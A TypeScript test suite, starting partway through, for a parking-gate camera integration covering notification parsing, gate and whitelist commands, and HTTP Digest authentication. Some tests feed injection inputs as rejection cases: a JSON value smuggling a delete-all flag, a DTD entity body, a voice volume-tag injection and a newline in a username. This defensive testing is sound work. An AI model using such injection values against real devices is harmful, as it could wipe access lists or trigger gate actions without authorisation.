      ['eventState odd', [['eventState', 'maybe']], 'EventNotificationAlert.eventState'],
    ];
    for (const [what, changes, field] of cases) expect(rejected(decodeXml(variant(changes))), what).toMatchObject({ reason: 'schema', field });
    const noBlock = read(ANPR).replace(/<ANPR>[\s\S]*<\/ANPR>\n/, '');
    expect(rejected(decodeXml(noBlock))).toMatchObject({ reason: 'schema', field: 'EventNotificationAlert.ANPR' });
    expect(rejected(decodeXml(variant([['licensePlate', '浙A123456789012']])))).toMatchObject({ reason: 'schema', field: 'EventNotificationAlert.ANPR.licensePlate' });
    expect(rejected(decodeXml(variant([['licensePlate', '加密车牌']]))).message).toMatch(/encrypt/);
  });

  it('invalid UTF-8, anywhere: in plain XML and in the XML part', () => {
    const x = enc.encode(read(ANPR).replace('WX1234A', 'WX\u0001'));
    const bad = new Uint8Array(x);
    bad.set([0xff, 0xfe, 0xc3], read(ANPR).indexOf('WX') + 2);
    expect(bomb('invalid-utf8', bad).message).toMatch(/UTF-8/);
    // GBK bytes where UTF-8 is promised (浙 in GBK is D5 E3)
    const gbk = enc.encode(read(ANPR).replace('WX1234A', 'ZZ1234A'));
    gbk.set([0xd5, 0xe3], read(ANPR).indexOf('WX'));
    bomb('invalid-utf8', gbk);
    const parts = multipart('b', [{ name: 'anpr.xml', type: 'text/xml', body: bad }]);
    expect(bomb('invalid-utf8', parts, 'multipart/form-data; boundary=b').field).toBe('part anpr.xml');
  });

  it('multipart: missing boundary, boundary not in the body, truncated, no XML part, too many parts', () => {
    const body = anprMultipart();
    expect(bomb('bad-multipart', body, 'multipart/form-data').field).toBe('Content-Type');
    bomb('bad-multipart', body, 'multipart/form-data; boundary=');
    bomb('bad-multipart', body, `multipart/form-data; boundary=${'x'.repeat(80)}`);
    bomb('bad-multipart', body, 'multipart/form-data; boundary=other');
    bomb('bad-multipart', body, 'text/plain'); // a multipart body under another type: its boundary is unknown
    bomb('truncated', body.subarray(0, body.length - 60_000), 'multipart/form-data; boundary=boundary'); // cut inside a JPEG
    bomb('truncated', multipart('boundary', [{ name: 'anpr.xml', type: 'text/xml', body: read(ANPR) }], { close: false }).subarray(0, 200), 'multipart/form-data; boundary=boundary');
    bomb('truncated', enc.encode('--boundary\r\nContent-Type: text/xml\r\n'), 'multipart/form-data; boundary=boundary');
    bomb('bad-multipart', multipart('b', [{ name: 'a.jpg', type: 'image/jpeg', body: PLATE_JPEG }]), 'multipart/form-data; boundary=b');
    bomb('bad-multipart', multipart('b', Array.from({ length: 20 }, (_, i) => ({ name: `p${i}.jpg`, type: 'image/jpeg', body: PLATE_JPEG }))), 'multipart/form-data; boundary=b');
    bomb('bad-multipart', enc.encode('--b--\r\n'), 'multipart/form-data; boundary=b');
  });

  it('oversize bodies are refused before anything is read', () => {
    const big = new Uint8Array(MAX_NOTIFICATION_BYTES + 1);
    const r = bomb('too-large', big, 'multipart/form-data; boundary=b');
    expect(r.field).toBe('');
  });

  it('random damage to a real body never throws and always says why', () => {
    const body = anprMultipart();
    let seed = 12345;
    const rnd = () => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff);
    for (let n = 0; n < 300; n++) {
      const b = new Uint8Array(body.subarray(0, Math.floor(rnd() * body.length)));
      for (let k = 0; k < 5; k++) b[Math.floor(rnd() * Math.min(b.length, 2000))] = Math.floor(rnd() * 256);
      const r = decodeNotification(b, 'multipart/form-data; boundary=boundary', ctx);
      if (!r.ok) expect(typeof r.reason === 'string' && r.message.length > 0).toBe(true);
      const x = enc.encode(read(ANPR)).slice(0, Math.floor(rnd() * 1100));
      expect(() => decodeNotification(x, 'application/xml', ctx)).not.toThrow();
    }
  });
});

// ── commands ─────────────────────────────────────────────────────────────────────────────────────
describe('gate commands → ISAPI requests', () => {
  const enc1 = (c: unknown, o = {}) => {
    const r = encodeGateCommand(c, o);
    if (!('requests' in r)) throw new Error(`${r.reason}: ${r.message}`);
    return r;
  };

  it('open: the arm first, then the screen, then the voice; confirmed by the arm status', () => {
    const r = enc1(anOpen(), { volume: 5 });
    expect(r.requests.map((q) => q.purpose)).toEqual(['barrier', 'display', 'voice']);
    expect(r.requests[1]).toEqual({
      purpose: 'display',
      method: 'POST',
      path: '/ISAPI/System/LCDScreen/displayInfo?format=json',
      contentType: 'application/json',
      body: JSON.stringify({ DisplayInfo: { sence: 1, license: '浙A12345', customInfo: '月租车 欢迎回家' } }),
    });
    expect(r.requests[2]!.body).toBe('<?xml version="1.0" encoding="UTF-8"?><VoiceBroadcastInfo><TTSInfo>[v5]欢迎回家</TTSInfo></VoiceBroadcastInfo>');
    expect(r.confirm).toEqual({ request: barrierGateStatusRequest(), expect: 'open' });
    expect(enc1(anOpen(), { channel: 2 }).requests[0]!.path).toBe('/ISAPI/Parking/channels/2/barrierGate');
  });

  it('deny never moves the arm (a close could come down on the car); display shows and speaks', () => {
    const deny = enc1({ id: 'c2', ts: AT, type: 'deny', cmdId: 'c2', display: '未登记车辆', voice: '请联系保安', expiresAt: '2026-07-05T19:45:41.000Z' });
    expect(deny.requests.map((q) => q.purpose)).toEqual(['display', 'voice']);
    expect(deny.confirm).toBeUndefined();
    expect(JSON.parse(deny.requests[0]!.body!)).toEqual({ DisplayInfo: { sence: 1, license: '', customInfo: '未登记车辆' } });
    const show = enc1({ id: 'c3', ts: AT, type: 'display', cmdId: 'c3', display: '车位已满' });
    expect(show.requests.map((q) => q.purpose)).toEqual(['display']);
    const noScreen = enc1({ id: 'c3', ts: AT, type: 'display', cmdId: 'c3', display: '车位已满' }, { display: 'none' });
    expect(noScreen.requests).toEqual([]);
    expect(noScreen.warnings.join(' ')).toMatch(/without a screen/);
  });

  it('voice text is escaped and cannot carry a volume tag; XML-hostile characters are refused', () => {
    const v = voiceRequest('<b>&[v10]"', { volume: 1 }) as { body: string };
    expect(v.body).toContain('<TTSInfo>[v1]&lt;b&gt;&amp;【v10】&quot;</TTSInfo>');
    expect(parseXml(v.body)).toMatchObject({ root: 'VoiceBroadcastInfo' });
    expect(rejected(voiceRequest('a\u0007b'))).toMatchObject({ reason: 'unencodable', field: 'voice' });
    expect(rejected(voiceRequest('hi', { volume: 11 }))).toMatchObject({ field: 'volume' });
    expect(rejected(voiceRequest('   '))).toMatchObject({ field: 'voice' });
  });

  it('bad commands: unknown type, missing fields, expired, bad channel', () => {
    expect(rejected(encodeGateCommand({ ...anOpen(), type: 'start' }))).toMatchObject({ reason: 'unknown-command' });
    expect(rejected(encodeGateCommand(anOpen((c) => delete c.display)))).toMatchObject({ reason: 'schema', field: 'display' });
    expect(rejected(encodeGateCommand(anOpen(), { now: Date.parse('2026-07-05T19:46:00.000Z') }))).toMatchObject({ reason: 'expired', field: 'expiresAt' });
    expect(encodeGateCommand(anOpen(), { now: Date.parse(AT) }).ok).toBe(true);
    expect(rejected(encodeGateCommand(anOpen(), { channel: 0 }))).toMatchObject({ reason: 'unencodable', field: 'channel' });
    expect(rejected(encodeGateCommand(null))).toMatchObject({ ok: false });
  });

  it('whitelist: batches of 50 in the sample\'s key order, deletes one by one, a diff, a search page', () => {
    const plates = Array.from({ length: 120 }, (_, i) => `浙A${String(i).padStart(5, '0')}`);
    const adds = whitelistAddRequests(plates.map((plate) => ({ plate })), { now: Date.parse(AT), listType: 'allowList', channel: 1 });
    expect(Array.isArray(adds) && adds.map((a) => JSON.parse(a.body!).LicensePlateInfoList.length)).toEqual([50, 50, 20]);
    const row = (adds as { body: string }[])[0]!;
    expect(Object.keys(JSON.parse(row.body).LicensePlateInfoList[0])).toEqual(['LicensePlate', 'listType', 'createTime', 'effectiveStartDate', 'effectiveTime', 'id']);
    expect(JSON.parse(row.body).LicensePlateInfoList[0]).toMatchObject({ listType: 'allowList', createTime: '2026-07-06T03:44:41', effectiveStartDate: '2026-07-06' });
    const dated = whitelistAddRequests([{ plate: '浙A1', from: '2026-01-01', until: '2026-12-31' }], { now: Date.parse(AT) }) as { body: string }[];
    expect(JSON.parse(dated[0]!.body).LicensePlateInfoList[0]).toMatchObject({ effectiveStartDate: '2026-01-01', effectiveTime: '2026-12-31' });
    expect(rejected(whitelistAddRequests([{ plate: 'A B' }], { now: 0 }))).toMatchObject({ reason: 'unencodable', field: 'entries.0.plate' });
    expect(rejected(whitelistAddRequests([{ plate: 'AB', until: 'never' }], { now: 0 }))).toMatchObject({ field: 'entries.0.until' });
    expect(rejected(whitelistDeleteRequest('"},"deleteAllEnabled":true,"x":{"'))).toMatchObject({ reason: 'unencodable', field: 'plate' });
    expect(whitelistDiff(['A', 'B', 'C'], ['B', 'C', 'D'])).toEqual({ add: ['D'], remove: ['A'] });
    const search = whitelistSearchRequest({ searchId: '7117D5B5-7DAC-4EF2-9869-D804DDAAE201', position: 0, max: 20 }) as { body: string; path: string };
    expect(search.path).toBe('/ISAPI/Traffic/channels/1/searchLPListAudit');
    expect(parseXml(search.body)).toMatchObject({ root: 'LPListAuditSearchDescription' });
    expect(rejected(whitelistSearchRequest({ searchId: '<x>', position: 0 }))).toMatchObject({ field: 'searchId' });
  });
});

// ── answers ──────────────────────────────────────────────────────────────────────────────────────
describe('answers: arm status, ResponseStatus, whitelist pages', () => {
  it('barrierGateStatus: 0/1/2 only; anything else names the field', () => {
    const ns = (v: string) => `<?xml version="1.0" encoding="UTF-8"?><BarrierGateStatus version="2.0" xmlns="http://www.isapi.org/ver20/XMLSchema"><barrierGateStatus>${v}</barrierGateStatus></BarrierGateStatus>`;
    expect(decodeBarrierGateStatus(ns('2'))).toEqual({ ok: true, code: 2, status: 'open', armState: 'open' });
    expect(decodeBarrierGateStatus(ns('1'))).toEqual({ ok: true, code: 1, status: 'closed', armState: 'closed' });
    expect(decodeBarrierGateStatus(ns('0'))).toEqual({ ok: true, code: 0, status: 'no-signal' });
    expect(decodeBarrierGateStatus(enc.encode(ns('2')))).toMatchObject({ status: 'open' });
    expect(rejected(decodeBarrierGateStatus(ns('3')))).toMatchObject({ reason: 'schema', field: 'BarrierGateStatus.barrierGateStatus' });
    expect(rejected(decodeBarrierGateStatus('<BarrierGateStatus/>'))).toMatchObject({ reason: 'schema' });
    expect(rejected(decodeBarrierGateStatus('open'))).toMatchObject({ reason: 'not-xml' });
    expect(rejected(decodeBarrierGateStatus('<!DOCTYPE x [<!ENTITY a "b">]><BarrierGateStatus/>'))).toMatchObject({ reason: 'xml-dtd' });
  });

  it('ResponseStatus, XML and JSON: statusCode 1 is accepted, anything else is not, with what the camera said', () => {
    expect(decodeResponseStatus('<?xml version="1.0" encoding="UTF-8"?><ResponseStatus><statusCode>4</statusCode><statusString>Invalid Operation</statusString><subStatusCode>notSupport</subStatusCode></ResponseStatus>'))
      .toEqual({ ok: true, accepted: false, statusCode: 4, statusString: 'Invalid Operation', subStatusCode: 'notSupport' });
    expect(decodeResponseStatus('{"statusCode":1,"statusString":"OK","subStatusCode":"ok"}')).toMatchObject({ accepted: true, statusCode: 1 });
    expect(decodeResponseStatus('{"statusCode":6,"statusString":"Invalid Content","subStatusCode":"badJsonContent","errorMsg":"LicensePlate"}')).toMatchObject({ accepted: false, errorMsg: 'LicensePlate' });
    expect(rejected(decodeResponseStatus('{"statusCode":'))).toMatchObject({ reason: 'not-json' });
    expect(rejected(decodeResponseStatus('<ResponseStatus/>'))).toMatchObject({ field: 'ResponseStatus.statusCode' });
    expect(rejected(decodeResponseStatus('<Other/>'))).toMatchObject({ reason: 'unknown-message' });
  });

  it('a whitelist page: the plates and whether more follow', () => {
    const page = '<LPListAuditSearchResult><searchID>1</searchID><responseStatusStrg>MORE</responseStatusStrg><numOfMatches>2</numOfMatches><LicensePlateInfoList><LicensePlateInfo><id>1</id><LicensePlate>浙A12345</LicensePlate></LicensePlateInfo><LicensePlateInfo><id>2</id><LicensePlate>浙B54321</LicensePlate></LicensePlateInfo></LicensePlateInfoList></LPListAuditSearchResult>';
    expect(decodeWhitelistPage(page)).toEqual({ ok: true, plates: ['浙A12345', '浙B54321'], more: true });
    expect(decodeWhitelistPage(page.replace('MORE', 'OK'))).toMatchObject({ more: false });
  });
});

// ── HTTP Digest ──────────────────────────────────────────────────────────────────────────────────
describe('HTTP Digest (RFC 7616, RFC 2617)', () => {
  // RFC 7616 §3.9.1: the same request answered with SHA-256 and with MD5.
  const RFC7616 = {
    username: 'Mufasa',
    password: 'Circle of Life',
    method: 'GET',
    uri: '/dir/index.html',
    cnonce: 'f2/wE4q74E6zIJEtWaHKaf5wv/H5QzzpXusqGemxURZJ',
    nc: 1,
  };
  const challenge7616 = (alg: string) =>
    `Digest realm="http-auth@example.org", qop="auth, auth-int", algorithm=${alg}, nonce="7ypf/xlj9XXwfDPEoM4URrv/xwf94BcCAzFZH4GiTo0v", opaque="FQhe/qaU925kfnzjCev0ciny7QMkPqMAFRtzCUYo5tdS"`;
  const chal = (h: string | string[]) => {
    const c = parseDigestChallenge(h);
    if ('ok' in c) throw new Error(c.message);
    return c;
  };

  it('RFC 7616 §3.9.1 worked example, SHA-256 and MD5', () => {
    expect(digestAuthorization({ ...RFC7616, challenge: chal(challenge7616('SHA-256')) })).toBe(
      'Digest username="Mufasa", realm="http-auth@example.org", uri="/dir/index.html", algorithm=SHA-256, nonce="7ypf/xlj9XXwfDPEoM4URrv/xwf94BcCAzFZH4GiTo0v", nc=00000001, cnonce="f2/wE4q74E6zIJEtWaHKaf5wv/H5QzzpXusqGemxURZJ", qop=auth, response="753927fa0e85d155564e2e272a28d1802ca10daf4496794697cf8db5856cb6c1", opaque="FQhe/qaU925kfnzjCev0ciny7QMkPqMAFRtzCUYo5tdS"',
    );
    expect(digestAuthorization({ ...RFC7616, challenge: chal(challenge7616('MD5')) })).toContain('response="8ca523f5e9506fed4657c9700eebdbec"');
    // Both offered (as in the RFC's example 401): SHA-256 is chosen.
    expect(chal([challenge7616('MD5'), challenge7616('SHA-256')]).algorithm).toBe('SHA-256');
  });

  it('RFC 2617 §3.5 example (MD5, no algorithm parameter)', () => {
    const c = chal('Digest realm="testrealm@host.com", qop="auth,auth-int", nonce="dcd98b7102dd2f0e8b11d0f600bfb0c093", opaque="5ccc069c403ebaf9f0171e9517f40e41"');
    expect(digestAuthorization({ challenge: c, username: 'Mufasa', password: 'Circle Of Life', method: 'GET', uri: '/dir/index.html', cnonce: '0a4f113b', nc: 1 })).toContain('response="6629fae49393a05397450978507c4ef1"');
  });

  it('a camera\'s challenge, unquoted tokens, any order, other schemes beside it; stale and userhash', () => {
    const cam = chal('Digest qop="auth", realm="IP Camera(C1234)", nonce="4e4f4e43453a313233", stale="FALSE"');
    expect(cam).toEqual({ realm: 'IP Camera(C1234)', nonce: '4e4f4e43453a313233', qop: 'auth', algorithm: 'MD5', stale: false, userhash: false });
    expect(chal('Negotiate abcd==, Basic realm="x", Digest nonce=4e4f, realm=IP-Camera, qop=auth, stale=TRUE')).toMatchObject({ realm: 'IP-Camera', nonce: '4e4f', stale: true });
    expect(chal('Digest realm="a \\"quoted\\" realm", nonce="n"').realm).toBe('a "quoted" realm');
    const auth = digestAuthorization({ challenge: { ...cam, realm: 'a "q" \\ r' }, username: 'admin', password: 'x', method: 'PUT', uri: '/ISAPI/Parking/channels/1/barrierGate', cnonce: '0a4f113b', nc: 2 }) as string;
    expect(auth).toContain('realm="a \\"q\\" \\\\ r"');
    expect(auth).toContain('nc=00000002');
    // RFC 7616 §3.4.4: userhash sends H(username:realm) instead of the name
    const uh = digestAuthorization({ ...RFC7616, challenge: { ...chal(challenge7616('SHA-256')), userhash: true } }) as string;
    expect(uh).toContain(`username="${sha256Hex(enc.encode('Mufasa:http-auth@example.org'))}"`);
    expect(uh).toContain('userhash=true');
    // -sess: HA1 = H(H(user:realm:pass):nonce:cnonce)
    const sess = digestAuthorization({ ...RFC7616, challenge: chal(challenge7616('MD5-sess')) }) as string;
    const ha1 = md5Hex(enc.encode(`${md5Hex(enc.encode('Mufasa:http-auth@example.org:Circle of Life'))}:7ypf/xlj9XXwfDPEoM4URrv/xwf94BcCAzFZH4GiTo0v:${RFC7616.cnonce}`));
    const ha2 = md5Hex(enc.encode('GET:/dir/index.html'));
    expect(sess).toContain(`response="${md5Hex(enc.encode(`${ha1}:7ypf/xlj9XXwfDPEoM4URrv/xwf94BcCAzFZH4GiTo0v:00000001:${RFC7616.cnonce}:auth:${ha2}`))}"`);
    // no qop (RFC 2069 server): response = H(HA1:nonce:HA2), no nc/cnonce
    const legacy = digestAuthorization({ ...RFC7616, challenge: chal('Digest realm="r", nonce="n"') }) as string;
    expect(legacy).not.toContain('cnonce');
  });

  it('challenges we cannot answer, and requests we will not sign, are rejections that never carry the password', () => {
    for (const [h, field] of [
      [undefined, 'WWW-Authenticate'],
      ['', 'WWW-Authenticate'],
      ['Basic realm="x"', 'WWW-Authenticate'],
      ['Digest realm="x"', 'WWW-Authenticate'],
      ['Digest realm="x", nonce="n", qop="auth-int"', 'WWW-Authenticate'],
      ['Digest realm="x", nonce="n", algorithm=SHA-512-256', 'WWW-Authenticate'],
      ['Digest nonce="n", realm="x', 'WWW-Authenticate.realm'],
      ['Digest realm="x", realm="y", nonce="n"', 'WWW-Authenticate.realm'],
      ['realm="x"', 'WWW-Authenticate'],
      [`Digest realm="${'x'.repeat(5000)}", nonce="n"`, 'WWW-Authenticate'],
    ] as const) {
      expect(rejected(parseDigestChallenge(h)), String(h).slice(0, 60)).toMatchObject({ reason: 'bad-challenge', field });
    }
    const c: DigestChallenge = { realm: 'r', nonce: 'n', qop: 'auth', algorithm: 'MD5', stale: false, userhash: false };
    const base = { challenge: c, username: 'admin', password: 'S3cret-Pa55', method: 'PUT', uri: '/ISAPI/x', cnonce: '0a4f113b', nc: 1 };
    for (const [change, field] of [
      [{ cnonce: 'has"quote' }, 'cnonce'],
      [{ cnonce: 'short' }, 'cnonce'],
      [{ nc: 0 }, 'nc'],
      [{ nc: 1.5 }, 'nc'],
      [{ method: 'put me' }, 'method'],
      [{ uri: 'http://x/' }, 'uri'],
      [{ uri: '/a b' }, 'uri'],
      [{ username: 'ad\nmin' }, 'username'],
    ] as const) {
      const r = rejected(digestAuthorization({ ...base, ...change }));
      expect(r, field).toMatchObject({ reason: 'unencodable', field });
      expect(JSON.stringify(r)).not.toContain('S3cret-Pa55');
    }
    expect(digestAuthorization(base)).not.toContain('S3cret-Pa55');
  });

  it('MD5 and SHA-256 agree with node:crypto on random input', () => {
    expect(md5Hex(new Uint8Array())).toBe('d41d8cd98f00b204e9800998ecf8427e');
    expect(sha256Hex(enc.encode('abc'))).toBe('ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad');
    for (let i = 0; i < 200; i++) {
      const b = randomBytes(i * 3);
      expect(md5Hex(b)).toBe(createHash('md5').update(b).digest('hex'));
      expect(sha256Hex(b)).toBe(createHash('sha256').update(b).digest('hex'));
    }
  });
});
